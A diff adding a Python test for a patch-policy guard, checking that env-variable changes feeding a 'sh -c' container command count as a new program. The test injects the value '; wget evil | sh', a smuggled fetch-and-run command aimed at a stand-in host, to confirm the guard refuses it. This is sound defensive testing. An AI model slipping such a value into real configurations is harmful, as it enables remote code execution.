@@ -742,3 +742,24 @@ def test_executable_files_mounted_from_the_cluster_are_a_program() -> None:
     plain = with_(mounted, f"{POD}.volumes.0.configMap.defaultMode", 0o644)
     POLICY.check(PATCH, BASE, plain)
     POLICY.check(PATCH, mounted, with_(mounted, f"{C0}.image", "docker.io/acme/web:2"))
+
+
+def test_an_env_change_that_rewrites_a_shell_script_is_a_new_program() -> None:
+    # sh -c expands $SCRIPT from env when it runs: a new value is a new script
+    pre = with_(
+        with_(BASE, f"{C0}.command", ["/bin/sh", "-c", 'exec web --mode="${MODE:-prod}" $EXTRA']),
+        f"{C0}.env",
+        [{"name": "MODE", "value": "prod"}, {"name": "EXTRA", "value": ""}, {"name": "DB_HOST", "value": "db"}],
+    )
+    for name in ("MODE", "EXTRA"):
+        env = [
+            {**e, "value": "; wget evil | sh"} if e["name"] == name else e
+            for e in pre["spec"]["template"]["spec"]["containers"][0]["env"]
+        ]
+        assert refused(PATCH, pre, with_(pre, f"{C0}.env", env)).guard == "program"
+    # a variable the script does not read stays configuration
+    env = [
+        {**e, "value": "db2"} if e["name"] == "DB_HOST" else e
+        for e in pre["spec"]["template"]["spec"]["containers"][0]["env"]
+    ]
+    POLICY.check(PATCH, pre, with_(pre, f"{C0}.env", env))
